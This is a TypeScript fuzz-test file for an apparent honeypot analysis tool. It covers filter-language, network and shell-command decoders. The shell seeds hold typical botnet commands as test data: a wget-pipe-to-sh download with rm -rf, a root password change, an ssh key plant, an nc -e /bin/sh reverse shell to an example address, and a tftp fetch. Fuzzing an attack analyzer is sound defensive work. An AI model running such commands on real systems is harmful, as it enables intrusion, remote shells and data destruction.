/** Texts: the filter language, networks, and everything that the analysis reads out of commands. */
import { FilterSyntaxError, parseFilter } from '@apiary/model/filter-language.ts';
import { normalizeAddress, parseNetwork } from '@apiary/model/networks.ts';
import type { GatheredAttack } from '@apiary/server/analysis/attack-row.ts';
import { listFacts } from '@apiary/server/analysis/facts.ts';
import { matchFamilies } from '@apiary/server/analysis/families.ts';
import { normalizeStatement, splitStatements } from '@apiary/server/analysis/shell.ts';
import { listSignals } from '@apiary/server/analysis/signals.ts';
import { judgeTechniques } from '@apiary/server/analysis/techniques.ts';
import { judgeTool } from '@apiary/server/analysis/tool.ts';
import type { FuzzDecoder } from './decoder.ts';

const fromTexts = (texts: string[]): Buffer[] => texts.map((text) => Buffer.from(text));

export const filter_language: FuzzDecoder = {
  name: 'filter_language',
  seeds: fromTexts([
    'service:ssh and password:"12\\"34" and not country:SK',
    'command:*wget* or url:http* port>1024 (attacker_ip:198.51.100.0/24 or asn:64496)',
    'user:(root or "admin" or pi) extra.key:1',
  ]),
  words: ['(', ')', 'not ', ' and ', ' or ', '"', '\\', 'port>=', ':', '*', 'constructor:1', '__proto__:1'],
  decode: (input) => JSON.stringify(parseFilter(input.toString('utf8'))).length,
  isDocumented: (error) => error instanceof FilterSyntaxError,
  outputMax: (input_bytes) => 64 * input_bytes + 4096,
};

export const networks: FuzzDecoder = {
  name: 'networks',
  seeds: fromTexts(['198.51.100.0/24', '2001:db8::/32', '::ffff:192.0.2.1', 'fe80::1%eth0', '1.2.3.4/0']),
  words: ['/', ':', '::', '.', '%', '128', '33'],
  decode(input) {
    const text = input.toString('utf8');
    const range = parseNetwork(text);
    if (range !== null && range.first > range.last) throw new Error('a network ends before it begins');
    return normalizeAddress(text)?.length ?? 0;
  },
};

const nothing: GatheredAttack = {
  ...{ attack_id: '1', visit_us: 0, visit_end_us: 0, first_us: 0, last_us: 0, sensor_id: 1 },
  ...{ source: '::ffff:203.0.113.1', net: 0, attacker_ip: '::ffff:203.0.113.1', attacker_country: '' },
  ...{
    attacker_asn: 0,
    service: 'ssh',
    cve: '',
    sensors: [1],
    sessions: 1,
    events: 1,
    fresh: 1,
    actions: {},
  },
  ...{ log_ins: 0, outbound: 0, usernames: 0, passwords: 0, some_usernames: [], signatures: [] },
  ...{ user_agents: [], fingerprints: [], target_kinds: [], credentials: [], commands: [], files: [] },
  ...{ downloads: [], relays: [], requests: [] },
};

/** Every text of an attack that is the attacker's. */
export function attackOf(text: string): GatheredAttack {
  const timed = [{ ts_us: 0, event_id: '1', text, session: 's' }];
  const plain = [text];
  return {
    ...nothing,
    ...{ commands: timed, downloads: timed, files: timed, relays: timed, requests: plain, signatures: plain },
    ...{ user_agents: plain, fingerprints: plain, some_usernames: plain },
  };
}

export const shell: FuzzDecoder = {
  name: 'shell',
  seeds: fromTexts([
    'cd /tmp; wget http://192.0.2.7:8080/bins/x.arm7 -O - | sh && rm -rf /tmp/* &',
    "echo -e '\\x7f\\x45\\x4c\\x46' > .s; chmod 777 .s\necho root:Abc123xyz | chpasswd",
    `ssh-rsa ${'A'.repeat(80)} me@host; nc -e /bin/sh -w 5 203.0.113.5 4444`,
    'tftp -g -r x 203.0.113.9; find / -name "*.docx" 2>&1; cat index.html hacked by me',
  ]),
  words: [
    'http://',
    '\\',
    '\\x41',
    ';',
    '|',
    '"',
    "'",
    'AAAA',
    'nc -a ',
    'tftp -a ',
    '.onion ',
    'zip ',
    'find ',
  ],
  decode(input) {
    const statements = splitStatements(input.toString('utf8'));
    return statements.map(normalizeStatement).reduce((sum, one) => sum + one.length, 0);
  },
};

export const analysis: FuzzDecoder = {
  ...shell,
  name: 'analysis',
  decode(input) {
    const attack = attackOf(input.toString('utf8', 0, 4096));
    const facts = listFacts(attack);
    return facts.length + listSignals(attack).length + matchFamilies(attack).length + judgeRest(attack);
  },
};

function judgeRest(attack: GatheredAttack): number {
  return judgeTechniques(attack).techniques.length + judgeTool(attack, matchFamilies(attack)).evidence.length;
}
